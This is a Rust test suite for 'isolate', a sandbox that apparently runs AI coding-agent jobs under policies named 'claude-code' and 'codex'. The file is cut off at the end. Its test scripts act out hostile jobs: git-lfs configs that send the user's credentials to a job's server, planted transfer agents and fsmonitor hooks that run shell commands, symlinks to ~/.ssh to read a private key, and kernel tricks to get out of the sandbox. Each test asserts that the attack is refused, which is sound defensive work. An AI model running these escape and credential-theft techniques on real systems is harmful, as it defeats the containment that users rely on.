fn a_udp_port_a_users_service_shares_with_so_reuseaddr_is_not_taken_by_a_job() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let service = env.file(
        "service.py",
        "import socket, sys\n\
         udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         udp.bind(('127.0.0.1', 0))\n\
         print(udp.getsockname()[1], flush=True)\n\
         udp.settimeout(20)\n\
         while True:\n\
         \x20   data = udp.recv(64)\n\
         \x20   print('service got', data.decode(), flush=True)\n\
         \x20   if data == b'last': break\n",
    );
    let job = env.file(
        "job.py",
        "import socket, sys\n\
         port = int(sys.argv[1])\n\
         udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         try: udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); print('udp option set')\n\
         except OSError as e: print('udp option', e.errno)\n\
         try: udp.bind(('127.0.0.1', port)); print('udp bound')\n\
         except OSError as e: print('udp bind', e.errno)\n\
         udp.settimeout(1)\n\
         try: print('job got', udp.recv(64).decode())\n\
         except OSError: pass\n\
         other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         other.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 0); print('udp option cleared')\n\
         tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
         tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         print('tcp option', tcp.getsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR) != 0)\n\
         tcp.bind(('127.0.0.1', 0)); tcp.listen(1); print('tcp listening')\n",
    );
    let (mut svc, mut out, port) = started_outside(&env, &service, &[]);
    let port: u16 = port.parse().unwrap();
    // A client of the service's, sending while the job runs.
    let client = std::thread::spawn(move || {
        let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        for _ in 0..20 {
            std::thread::sleep(std::time::Duration::from_millis(100));
            let _ = socket.send_to(b"datagram", ("127.0.0.1", port));
        }
        let _ = socket.send_to(b"last", ("127.0.0.1", port));
    });
    let ran = python_job(&env, &repo, &job, &[&port.to_string()]);
    client.join().unwrap();
    let mut heard = String::new();
    std::io::Read::read_to_string(&mut out, &mut heard).unwrap();
    let _ = svc.wait();
    let said = stdout(&ran);
    assert!(said.contains("tcp listening"), "{said}{}", stderr(&ran));
    assert!(
        said.contains(&format!("udp option {}", libc::ENOPROTOOPT)),
        "{said}"
    );
    assert!(said.contains("udp option cleared"), "{said}");
    assert!(said.contains("tcp option True"), "{said}");
    assert!(
        !said.contains("udp bound") && !said.contains("job got"),
        "{said}"
    );
    assert_eq!(heard.matches("service got datagram").count(), 20, "{heard}");
}

/// POSIX shared memory of the user's (`/dev/shm`, where browsers and editors keep theirs) is not
/// readable to a job under any profile, as no job may write there and so has nothing of its own
/// there; the object is unchanged. (Its name is listed: `/dev` is list-only, a known gap.)
#[test]
fn read_the_users_posix_shared_memory() {
    // Refused by Landlock in the Landlock-only tier; not there at all in the namespaces tier, where
    // the job's /dev/shm is a tmpfs of its own.
    for env in [TestEnv::landlock_only(), TestEnv::new()] {
        users_posix_shared_memory(env);
    }
}

fn users_posix_shared_memory(env: TestEnv) {
    let repo = env.repo("app");
    let object = PathBuf::from("/dev/shm").join(format!(
        "isolate-shm-{}-{}",
        std::process::id(),
        env.path().file_name().unwrap().to_string_lossy()
    ));
    fs::write(&object, "the users shared memory\n").unwrap();
    fs::set_permissions(&object, fs::Permissions::from_mode(0o600)).unwrap();
    let script = format!(
        "cat '{0}'; ls /dev/shm; echo tampered > '{0}'; echo attempted",
        object.display()
    );
    for policy in ["default", "strict"] {
        let (out, _) = env.policy_job(&repo, &[], policy, &script);
        let said = stdout(&out);
        assert!(
            said.contains("attempted"),
            "{policy}: {said}{}",
            stderr(&out)
        );
        assert!(
            !said.contains("the users shared memory"),
            "{policy}: {said}"
        );
        match env.tier_is_landlock() {
            true => assert_said(&out, "Permission denied"),
            false => assert_said(&out, "No such file or directory"),
        }
    }
    let after = fs::read_to_string(&object).unwrap();
    fs::remove_file(&object).unwrap();
    assert_eq!(after, "the users shared memory\n");
}

/// The user's git-lfs (installed in the project) takes its server from the top's `.lfsconfig`,
/// which a merge's checkout writes before the files LFS smudges: a job's `.lfsconfig` would send
/// the user's git-lfs, with the user's credentials, to the job's server. The merge is refused,
/// the server hears nothing, the checkout and the branch are as they were.
#[test]
fn a_merge_never_sends_the_users_git_lfs_to_a_server_the_job_names() {
    use std::io::{Read, Write};
    let env = TestEnv::new();
    let repo = env.repo("app");
    env.git(&repo, ["lfs", "install", "--local"]);
    fs::write(
        repo.join(".gitattributes"),
        "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    )
    .unwrap();
    env.git(&repo, ["add", ".gitattributes"]);
    env.git(&repo, ["commit", "-q", "-m", "lfs"]);
    let before = env.git(&repo, ["rev-parse", "HEAD"]);
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let heard = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = std::sync::Arc::clone(&heard);
    std::thread::spawn(move || {
        for mut conn in server.incoming().flatten() {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let _ = conn.read(&mut [0; 4096]);
            let _ = conn.write_all(b"HTTP/1.1 500 No\r\nContent-Length: 0\r\n\r\n");
        }
    });
    let script = format!(
        "printf '[lfs]\\n\\turl = http://127.0.0.1:{port}/lfs\\n' > .lfsconfig && \
         printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:{}\\nsize 5\\n' > data.bin && \
         git add .lfsconfig data.bin && git commit -qm data",
        "a".repeat(64)
    );
    let (out, report) = env.worktree_job(&repo, &["--policy", "offline"], &script);
    assert_status(&out, 0);
    let out = env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]);
    assert_status(&out, 1);
    assert!(stderr(&out).contains(".lfsconfig"), "{}", stderr(&out));
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        heard.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "git-lfs reached the job's server"
    );
    assert_eq!(env.git(&repo, ["rev-parse", "HEAD"]), before);
    assert!(!repo.join(".lfsconfig").exists() && !repo.join("data.bin").exists());
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
}

/// A project whose configuration includes a tracked file (`include.path = ../.gitconfig`, a team's
/// shared settings): the merge's checkout would write the job's version first, and git-lfs, which
/// the checkout starts later, reads it and runs the transfer agent it names, with the user's
/// rights (and every git command after it would run what it says). The merge is refused; nothing
/// ran; the checkout and the branch are as they were.
#[test]
fn a_merge_never_lands_a_file_the_users_git_configuration_includes() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    env.git(&repo, ["lfs", "install", "--local"]);
    env.git(&repo, ["config", "include.path", "../.gitconfig"]);
    fs::write(
        repo.join(".gitattributes"),
        "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    )
    .unwrap();
    fs::write(repo.join(".gitconfig"), "[core]\n\tautocrlf = false\n").unwrap();
    env.git(&repo, ["add", ".gitattributes", ".gitconfig"]);
    env.git(&repo, ["commit", "-q", "-m", "shared settings"]);
    let before = env.git(&repo, ["rev-parse", "HEAD"]);
    let marker = env.path().join("agent-ran");
    let script = format!(
        "printf '[lfs]\\n\\tstandalonetransferagent = evil\\n[lfs \"customtransfer.evil\"]\\n\\tpath = /bin/sh\\n\\targs = \"-c \\\\\"touch {}; exit 1\\\\\"\"\\n' > .gitconfig && \
         printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:{}\\nsize 5\\n' > data.bin && \
         git add .gitconfig data.bin && git commit -qm data",
        marker.display(),
        "b".repeat(64)
    );
    let (out, report) = env.worktree_job(&repo, &["--policy", "offline"], &script);
    assert_status(&out, 0);
    let out = env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]);
    assert_status(&out, 1);
    assert!(
        stderr(&out).contains("configuration includes"),
        "{}",
        stderr(&out)
    );
    assert!(
        !marker.exists(),
        "the job's transfer agent ran with the user's rights"
    );
    assert_eq!(env.git(&repo, ["rev-parse", "HEAD"]), before);
    assert_eq!(
        fs::read_to_string(repo.join(".gitconfig")).unwrap(),
        "[core]\n\tautocrlf = false\n"
    );
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
}

/// Another local user's link where a store is denied (where `GNUPGHOME` or a policy's `deny_read`
/// points, as another user could plant `/tmp/krb5cc_<uid>`): no rule follows it, and the run goes
/// on, the store skipped as a missing one is (what lies there is not the user's). Before, every
/// run failed (125).
#[test]
fn another_users_link_where_a_store_is_denied_stops_no_run() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let Some(planted) = another_users_link(&env, "planted", Path::new("/usr")) else {
        return;
    };
    let file = env.file(
        "deny.toml",
        &format!(
            "extends = \"default\"\n[filesystem]\ndeny_read = [\"{}/lib\"]\n",
            planted.display()
        ),
    );
    let gnupg = planted.display().to_string();
    let vars = [("GNUPGHOME", gnupg.as_str())];
    for policy in ["default", file.to_str().unwrap()] {
        let (out, _) = env.policy_job(&repo, &vars, policy, "ls /usr/lib >/dev/null && echo ran");
        assert_status(&out, 0);
        assert_said(&out, "ran");
    }
}

/// A lease on a file the job may only read (the kernel grants one to the file's owner) held every
/// `open` for writing of the user's, `git commit` included, for 45 s at a time; inode flags set
/// through such a descriptor (`chattr +d`, `+S`) changed the user's files. Both refused, under
/// `default` and `strict`; the file is as it was.
#[test]
fn a_job_takes_no_lease_and_sets_no_inode_flag_on_the_users_files() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let target = repo.join("README");
    let probe = env.probe(
        "lease.py",
        "import array, fcntl\n\
         fd = os.open(sys.argv[1], os.O_RDONLY)\n\
         attempt('lease', lambda: fcntl.fcntl(fd, 1024, fcntl.F_RDLCK))\n\
         flags = array.array('l', [0])\n\
         attempt('get flags', lambda: fcntl.ioctl(fd, 0x80086601, flags))\n\
         attempt('set flags', lambda: fcntl.ioctl(fd, 0x40086602, array.array('l', [flags[0] | 0x40])))\n\
         attempt('set flags int', lambda: fcntl.ioctl(fd, 0x40046602, array.array('i', [flags[0] | 0x40])))\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         def setattr_by_path():\n\
         \x20   attr = (ctypes.c_uint64 * 3)(0x20 | 0x40 | 0x80, 0, 0)\n\
         \x20   if libc.syscall(469, -100, sys.argv[1].encode(), attr, 24, 0) != 0:\n\
         \x20       raise OSError(ctypes.get_errno(), 'file_setattr')\n\
         attempt('file_setattr', setattr_by_path)\n\
         parent = os.open(os.path.dirname(sys.argv[1]), os.O_RDONLY | os.O_DIRECTORY)\n\
         attempt('encryption policy', lambda: fcntl.ioctl(parent, 0x800c6613, bytearray(12)))\n\
         attempt('remove key', lambda: fcntl.ioctl(parent, 0xc0406618, bytearray(64)))\n\
         attempt('verity', lambda: fcntl.ioctl(fd, 0x40806685, bytearray(128)))\n\
         attempt('newer call', lambda: (libc.syscall(470, 0, 0, 0) == 0) or (_ for _ in ()).throw(OSError(ctypes.get_errno(), '470')))\n",
    );
    // In the project, where `strict` reads it.
    let probe_copy = repo.join("lease.py");
    fs::copy(&probe, &probe_copy).unwrap();
    let probe = probe_copy.display();
    // The inode flags, read as lsattr does (e2fsprogs may not be installed).
    let flags = || {
        Command::new("python3")
            .args([
                "-c",
                "import array, fcntl, sys\nf = open(sys.argv[1])\nb = array.array('l', [0])\n\
                 fcntl.ioctl(f, 0x80086601, b)\nprint(b[0])",
            ])
            .arg(&target)
            .output()
            .unwrap()
            .stdout
    };
    let before = flags();
    for policy in ["default", "strict"] {
        let script = format!("python3 {probe} {}", target.display());
        let (out, _) = env.policy_job(&repo, &[], policy, &script);
        assert_status(&out, 0);
        let said = stdout(&out);
        assert!(
            said.contains("lease: EACCES"),
            "{policy}: {said}{}",
            stderr(&out)
        );
        assert!(
            said.contains("set flags: EPERM") && said.contains("set flags int: EPERM"),
            "{policy}: {said}"
        );
        for refused in [
            "file_setattr: EPERM",
            "encryption policy: EPERM",
            "remove key: EPERM",
            "verity: EPERM",
            "newer call: ENOSYS",
        ] {
            assert!(said.contains(refused), "{policy}: {refused}: {said}");
        }
    }
    assert_eq!(before, flags());
    assert_eq!(fs::read_to_string(&target).unwrap(), "hello\n");
}

/// btrfs makes subvolumes and snapshots through ioctls on a directory opened only for reading, and
/// no Landlock hook sees the entry made: a job filled a subvolume in its TMPDIR and snapshotted it
/// into the project as a Python package, which `import` outside ran. Refused, all of btrfs's own
/// ioctls, but the clone ioctls every filesystem shares: `cp --reflink` works where the job writes.
#[test]
fn a_job_makes_no_subvolume_or_snapshot_in_the_users_directories_on_btrfs() {
    // Needs root to make and mount a btrfs image (CI runs as root; .ci/run installs btrfs-progs).
    let env = TestEnv::new();
    let (mount, _unmount) = mount::btrfs_image(&env);
    let repo = env.repo("btrfs/app");
    let state = mount.join("state");
    let probe = env.probe(
        "subvolume.py",
        "import fcntl, struct, subprocess\n\
         ioc = lambda nr, size: (1 << 30) | (size << 16) | (0x94 << 8) | nr\n\
         project = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)\n\
         top = os.open(sys.argv[2], os.O_RDONLY | os.O_DIRECTORY)\n\
         attempt('subvolume', lambda: fcntl.ioctl(project, ioc(14, 4096), bytearray(struct.pack('q4088s', 0, b'made'))))\n\
         attempt('snapshot', lambda: fcntl.ioctl(project, ioc(23, 4096), bytearray(struct.pack('qQQ32s4040s', top, 0, 0, b'', b'snap'))))\n\
         attempt('read only', lambda: fcntl.ioctl(top, ioc(26, 8), bytearray(struct.pack('Q', 1))))\n\
         attempt('label', lambda: fcntl.ioctl(top, (2 << 30) | (256 << 16) | (0x94 << 8) | 49, bytearray(256)))\n\
         open(os.path.join(os.environ['TMPDIR'], 'a'), 'w').write('cloned\\n')\n\
         os.chdir(os.environ['TMPDIR'])\n\
         done = subprocess.run(['cp', '--reflink=always', 'a', 'b'])\n\
         print('reflink:', done.returncode, open('b').read().strip())\n",
    );
    let before = fs::read_dir(&repo).unwrap().count();
    let state_var = state.display().to_string();
    let out = env.isolate_with(
        &repo,
        &[("ISOLATE_HOME", state_var.as_str())],
        &[
            "run",
            "-q",
            "--",
            "python3",
            &probe,
            &repo.display().to_string(),
            &mount.display().to_string(),
        ],
    );
    let said = stdout(&out);
    assert_status(&out, 0);
    for refused in ["subvolume: EPERM", "snapshot: EPERM", "read only: EPERM"] {
        assert!(said.contains(refused), "{refused}: {said}{}", stderr(&out));
    }
    assert!(said.contains("reflink: 0 cloned"), "{said}{}", stderr(&out));
    assert!(said.contains("label: ok"), "{said}");
    assert_eq!(fs::read_dir(&repo).unwrap().count(), before);
    assert!(!repo.join("made").exists() && !repo.join("snap").exists());
    assert_eq!(env.git(&repo, ["status", "--porcelain"]), "");
}

/// `setpriority(PRIO_USER, 0, …)` and `ioprio_set(IOPRIO_WHO_USER, 0, …)`: who 0 is not the job
/// but every process of the user's uid (of root's, for the I/O priority), outside the job too, and
/// a nice value raised cannot be lowered again without root. Refused. As an ordinary user: root's
/// own call is refused by the kernel for want of `CAP_SYS_NICE`, and would show nothing.
#[test]
fn the_priority_of_every_process_of_the_user_is_out_of_reach() {
    let env = TestEnv::new();
    let script = r#"
        mkdir app && cd app && git init -q && echo hi > README && git add . && git commit -qm init
        sleep 30 & victim=$!
        "$ISOLATE" run -q -- python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
try: os.setpriority(os.PRIO_USER, 0, 1); print("user priority changed")
except OSError as e: print("user priority refused", e.errno)
r = libc.syscall(251, 3, 0, (2 << 13) | 7)
print("user io priority changed" if r == 0 else "user io priority refused %d" % ctypes.get_errno())
'
        echo "victim nice: $(ps -o ni= -p $victim | tr -d ' ')"
        kill $victim"#;
    let out = env.as_ordinary_user(script);
    let said = stdout(&out);
    assert!(
        said.contains("user priority refused 1"),
        "{said}{}",
        stderr(&out)
    );
    assert!(said.contains("user io priority refused 1"), "{said}");
    assert!(said.contains("victim nice: 0"), "{said}");
}

/// The same through a link (found in review): the include names a tracked link the job re-points
/// at a file of its own, or a path whose directory the job adds as a link. The next git command
/// of the user's would run the job's `core.fsmonitor`. Refused; nothing ran.
#[test]
fn a_merge_never_lands_a_link_on_the_way_to_an_included_file() {
    let env = TestEnv::new();
    let marker = env.path().join("fsmonitor-ran");
    let evil = format!(
        "[core]\n\tfsmonitor = \"touch {}; false\"\n",
        marker.display()
    );
    for (n, (include, setup, job)) in [
        (
            "../.gitconfig",
            "mkdir shared && printf '[core]\\n\\tautocrlf = false\\n' > shared/gitconfig && ln -s shared/gitconfig .gitconfig",
            "cat > evil.cfg && ln -sfn evil.cfg .gitconfig && git add evil.cfg .gitconfig",
        ),
        (
            "../cfg/git.cfg",
            "echo kept > kept.txt",
            "mkdir evil && cat > evil/git.cfg && ln -s evil cfg && git add evil cfg",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let repo = env.repo(&format!("app-{n}"));
        as_the_user(&env, &repo, &format!("{setup} && git add -A && git commit -qm setup"));
        env.git(&repo, ["config", "include.path", include]);
        let before = env.git(&repo, ["rev-parse", "HEAD"]);
        let script = format!("printf '%s' '{evil}' | {{ {job}; }} && git commit -qm cfg");
        let (out, report) = env.worktree_job(&repo, &["--policy", "offline"], &script);
        assert_status(&out, 0);
        let out = env.isolate(&repo, ["merge", "--yes", report["id"].as_str().unwrap()]);
        assert_status(&out, 1);
        assert!(stderr(&out).contains("configuration includes"), "{include}: {}", stderr(&out));
        assert_eq!(env.git(&repo, ["rev-parse", "HEAD"]), before, "{include}");
        as_the_user(&env, &repo, "git status --porcelain >/dev/null");
        assert!(!marker.exists(), "{include}: the job's fsmonitor ran");
    }
}

/// An include set in the caller's environment (`GIT_CONFIG_COUNT`, as a wrapper or a CI sets it),
/// naming a tracked file by its absolute path: isolate's own git leaves such variables out, the
/// user's next git reads them. The merge that changes that file is refused; without the include,
/// the same merge lands.
#[test]
fn a_merge_never_lands_a_file_an_include_of_the_environment_names() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::write(repo.join("shared.cfg"), "[core]\n\tautocrlf = false\n").unwrap();
    env.git(&repo, ["add", "shared.cfg"]);
    env.git(&repo, ["commit", "-q", "-m", "shared"]);
    let included = repo.join("shared.cfg").display().to_string();
    let vars = [
        ("GIT_CONFIG_COUNT", "1"),
        ("GIT_CONFIG_KEY_0", "include.path"),
        ("GIT_CONFIG_VALUE_0", included.as_str()),
    ];
    let script = "printf '[core]\\n\\tfsmonitor = evil\\n' > shared.cfg && git commit -qam cfg";
    let (out, report) = env.worktree_job(&repo, &["--policy", "offline"], script);
    assert_status(&out, 0);
    let id = report["id"].as_str().unwrap();
    let before = env.git(&repo, ["rev-parse", "HEAD"]);
    let out = env.isolate_with(&repo, &vars, &["merge", "--yes", id]);
    assert_status(&out, 1);
    assert!(
        stderr(&out).contains("configuration includes"),
        "{}",
        stderr(&out)
    );
    assert_eq!(env.git(&repo, ["rev-parse", "HEAD"]), before);
    let out = env.isolate(&repo, ["merge", "--yes", id]);
    assert_status(&out, 0);
}

/// A stream unix socket bound to the abstract name `name`, not listening.
fn abstract_stream(name: &str) -> std::os::fd::OwnedFd {
    use std::os::fd::FromRawFd;
    // SAFETY: socket returns a fresh descriptor, owned from here on.
    let fd = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0) };
    assert!(fd >= 0);
    // SAFETY: as above.
    let socket = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
    // SAFETY: sockaddr_un is plain data.
    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
    for (i, b) in name.bytes().enumerate() {
        addr.sun_path[i + 1] = b as libc::c_char;
    }
    let len = (std::mem::size_of::<libc::sa_family_t>() + 1 + name.len()) as libc::socklen_t;
    // SAFETY: bind reads `len` bytes of `addr`, which outlives the call.
    let rc = unsafe { libc::bind(fd, (&addr as *const libc::sockaddr_un).cast(), len) };
    assert_eq!(rc, 0, "{}", std::io::Error::last_os_error());
    socket
}

/// An abstract unix name has no owner: a job that binds a well-known one (`@/tmp/.X11-unix/X0`,
/// a daemon's) is the server for every outside client that connects to it, which Landlock's
/// abstract scope does not stop (it refuses the job's connects out). Refused under every policy;
/// a second thread that swaps the name in after the bind's check binds it, and then never listens
/// on it (300 tries with a thread flipping the address). Binds the job
/// may make still work as its own, judged by the kernel under its whole Landlock domain: a
/// relative path in its working directory (with its umask), its `TMPDIR`, an autobound name, a
/// TCP port; a path outside what it may write is refused; and a narrowing policy's layer holds
/// (`--resume --policy offline` binds no TCP port).
#[test]
fn a_job_never_binds_an_abstract_name_outsiders_would_reach() {
    // The Landlock-only tier: in the namespaces tier a job with a network namespace of its own has
    // its own abstract names too, which nobody outside reaches (ordinary.rs).
    let env = TestEnv::landlock_only();
    let name = format!("isolate-test-abstract-{}", std::process::id());
    let outside = env.path().join("outside.sock");
    let probe = env.probe(
        "abstract.py",
        &format!(
            "name = b'\\0{name}'\n\
             def unix(addr):\n\
             \x20   s = socket.socket(socket.AF_UNIX); s.bind(addr); s.listen(); keep.append(s)\n\
             keep = []\n\
             attempt('abstract', lambda: unix(name))\n\
             attempt('relative', lambda: unix('rel.sock'))\n\
             attempt('tmpdir', lambda: unix(os.environ['TMPDIR'] + '/t.sock'))\n\
             attempt('outside', lambda: unix('{}'))\n\
             attempt('autobind', lambda: unix(''))\n\
             attempt('tcp', lambda: keep.append(socket.create_server(('127.0.0.1', 0))))\n\
             print('mode', oct(os.stat('rel.sock').st_mode & 0o777), flush=True)\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             buf = ctypes.create_string_buffer(b'\\x01\\x00' + name)\n\
             flipping = True\n\
             def flip():\n\
             \x20   while flipping:\n\
             \x20       buf[2] = 0; buf[2] = ord('x')\n\
             threading.Thread(target=flip, daemon=True).start()\n\
             raced = served = 0\n\
             for i in range(300):\n\
             \x20   s = socket.socket(socket.AF_UNIX)\n\
             \x20   if libc.bind(s.fileno(), buf, 2 + len(name)) == 0 and s.getsockname()[:1] == b'\\0':\n\
             \x20       raced += 1\n\
             \x20       served += libc.listen(s.fileno(), 1) == 0\n\
             \x20   s.close()\n\
             flipping = False\n\
             print('raced', raced, 'served', served, flush=True)\n",
            outside.display()
        ),
    );
    let repo = env.repo("app");
    for policy in ["default", "strict", "offline"] {
        // Strict reads nothing of the test's directory: the probe goes in through the script.
        let text = fs::read_to_string(&probe).unwrap();
        let (out, report) = env.worktree_job(
            &repo,
            &["--policy", policy],
            &format!("umask 027; cat > \"$TMPDIR/p.py\" <<'PROBE'\n{text}PROBE\npython3 \"$TMPDIR/p.py\""),
        );
        let said = stdout(&out);
        assert_status(&out, 0);
        assert_eq!(report["sandbox"]["enforced"], true, "{report}");
        for line in [
            "abstract: EACCES",
            "relative: ok",
            "tmpdir: ok",
            "outside: EACCES",
            "autobind: ok",
            "mode 0o750",
            "served 0",
        ] {
            assert!(said.contains(line), "{policy}: missing {line:?}\n{said}");
        }
        if policy == "default" {
            assert!(said.contains("tcp: ok"), "{said}");
        }
        assert!(!outside.exists());
    }
    // A socket bound to a chosen abstract name before the job got it (as one a second thread
    // raced past the bind's check would be): it never listens.
    let inherited = abstract_stream(&format!("{name}-inherited"));
    let pending = Pending::start(
        &env,
        &repo,
        &[],
        "python3 -c \"import socket, errno\n\
         s = socket.socket(fileno=0)\n\
         try:\n\
         \x20   s.listen(1); print('inherited listen: ok')\n\
         except OSError as e:\n\
         \x20   print('inherited listen:', errno.errorcode[e.errno])\"",
        Stdio::from(inherited),
    );
    let (out, _) = pending.finish(&env, || {});
    assert_said(&out, "inherited listen: EACCES");
    // A kept job resumed under `offline`: the narrowing layer holds for its binds too.
    let (out, report) = env.worktree_job(&repo, &["--keep"], "true");
    assert_status(&out, 0);
    let id = report["id"].as_str().unwrap().to_string();
    let out = env.isolate(
        &repo,
        [
            "run",
            "--resume",
            &id,
            "--policy",
            "offline",
            "--",
            "python3",
            "-c",
            "import socket, errno\n\
             try:\n\
             \x20   s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); print('tcp: ok')\n\
             except OSError as e:\n\
             \x20   print('tcp:', errno.errorcode[e.errno])",
        ],
    );
    assert!(
        stdout(&out).contains("tcp: EACCES"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
}

/// isolate's state directory, under every profile: a job that held a shared `flock` on a lock file
/// there (`ports/.take`, opened for reading, as `default` reads the home directory) hung every
/// later `isolate run` of the user, and another job's end on its `import.lock`; it read every
/// job's records and logs. Nothing of it opens but the job's own TMPDIR and worktree (its names
/// may be listed, as every carved directory's are).
#[test]
fn isolates_state_directory_is_out_of_every_jobs_reach_but_its_own_tmpdir() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (_, earlier) = env.worktree_job(&repo, &["--keep"], "echo draft > draft.txt");
    let earlier = earlier["id"].as_str().unwrap().to_string();
    let state = fs::canonicalize(&env.state).unwrap();
    assert!(state.join("ports/.take").exists(), "no lock file to try");
    let s = state.display();
    let script = format!(
        "for f in {s}/ports/.take {s}/prune.lock {s}/jobs/{earlier}/job.json {s}/jobs/{earlier}/output.log; do \
           if python3 -c 'import fcntl, sys; fcntl.flock(open(sys.argv[1]), fcntl.LOCK_SH)' \"$f\" 2>/dev/null; \
           then echo \"opened $f\"; fi; done; \
         cat {s}/worktrees/*/{earlier}/draft.txt 2>/dev/null && echo read-worktree; \
         echo own > \"$TMPDIR/x\" && cat \"$TMPDIR/x\" && pwd"
    );
    for policy in ["default", "claude-code", "codex", "strict"] {
        let (out, report) = env.policy_job(&repo, &[], policy, &script);
        assert_status(&out, 0);
        let said = stdout(&out);
        assert!(said.contains("own"), "{policy}: {said}{}", stderr(&out));
        assert!(
            !said.contains("opened") && !said.contains("read-worktree"),
            "{policy}: {said}"
        );
        assert_eq!(report["sandbox"]["enforced"], true, "{policy}");
    }
    // A job in a worktree under the state directory still works in it.
    let (out, _) = env.worktree_job(
        &repo,
        &[],
        "echo job > job.txt && cat job.txt && ls >/dev/null",
    );
    assert_status(&out, 0);
    assert!(stdout(&out).contains("job"), "{}", stderr(&out));
}

#[test]
fn publishing_a_jobs_cache_never_follows_a_link_another_job_left_in_the_projects_cache() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    // The user has cargo's and npm's caches: the namespaces tier overlays them.
    fs::create_dir_all(env.home.join(".cargo/registry")).unwrap();
    fs::create_dir_all(env.home.join(".npm")).unwrap();
    let hooks = repo.join(".git/hooks");
    fs::create_dir_all(&hooks).unwrap();
    // Under strict ~/.cargo is not read through: CARGO_HOME is the project's jobs' cache, which
    // that job writes directly. It makes the registry there a link to the project's hooks.
    let plant = format!(
        "rm -rf \"$CARGO_HOME/registry\" && ln -s '{}' \"$CARGO_HOME/registry\" && echo planted",
        hooks.display()
    );
    let (out, _) = attempt_with(&env, &repo, &["--policy", "strict"], &plant, || {});
    assert!(stdout(&out).contains("planted"), "{}", stderr(&out));
    // The next job (default policy, overlays) writes a hook by name into its registry, which
    // publishing moves into the project's jobs' cache at its end; and a file into npm's.
    let write = "rm -rf ~/.cargo/registry; mkdir -p ~/.cargo/registry && \
                 printf '#!/bin/sh\\necho hooked\\n' > ~/.cargo/registry/post-checkout && \
                 chmod +x ~/.cargo/registry/post-checkout && echo kept > ~/.npm/from-the-job && \
                 echo wrote";
    let (out, report) = attempt_with(&env, &repo, &[], write, || {});
    assert_eq!(report["sandbox"]["tier"], "namespaces", "{report}");
    assert!(stdout(&out).contains("wrote"), "{}", stderr(&out));
    // The project's hooks are unchanged (attempt_with's picture): nothing was moved through the link.
    assert!(!hooks.join("post-checkout").exists());
    // What the job wrote where no link was in the way is still kept for the next job.
    let (out, _) = attempt_with(&env, &repo, &[], "cat ~/.npm/from-the-job", || {});
    assert!(stdout(&out).starts_with("kept\n"), "{}", stderr(&out));
    // What a job writes through a tool's variable (strict: CARGO_HOME) is never what another
    // job's overlay shows: a cargo of its own there is not the next job's `~/.cargo/bin/cargo`.
    let plant =
        "mkdir -p \"$CARGO_HOME/bin\" && echo evil > \"$CARGO_HOME/bin/cargo\" && echo planted";
    let (out, _) = attempt_with(&env, &repo, &["--policy", "strict"], plant, || {});
    assert!(stdout(&out).contains("planted"), "{}", stderr(&out));
    let (out, _) = attempt_with(&env, &repo, &[], "cat ~/.cargo/bin/cargo 2>&1", || {});
    assert!(!stdout(&out).contains("evil"), "{}", stdout(&out));
}

#[test]
fn a_link_another_job_left_in_the_projects_cache_never_carries_a_rule_to_a_store() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    fs::create_dir_all(env.home.join(".cargo/registry")).unwrap();
    fs::write(env.home.join(".cargo/credentials.toml"), "token = \"t\"\n").unwrap();
    fs::write(env.home.join(".cargo/env"), "the user's env\n").unwrap();
    fs::create_dir_all(env.home.join(".ssh")).unwrap();
    fs::write(env.home.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
    let home = Snapshot::take(&env.home);
    // A job whose cargo home is the project's jobs' cache (strict) makes the registry there a
    // link to ~/.ssh; in the next job's overlay that is where ~/.cargo/registry is, and a read
    // rule carved around cargo's credentials names it.
    let plant = format!(
        "rm -rf \"$CARGO_HOME/registry\" && ln -s '{}' \"$CARGO_HOME/registry\" && echo planted",
        env.home.join(".ssh").display()
    );
    let (out, _) = attempt_with(&env, &repo, &["--policy", "strict"], &plant, || {});
    assert!(stdout(&out).contains("planted"), "{}", stderr(&out));
    let read = "cat ~/.cargo/registry/id_ed25519 2>&1; cat ~/.cargo/env; \
                echo mine > ~/.cargo/registry.new && cat ~/.cargo/registry.new";
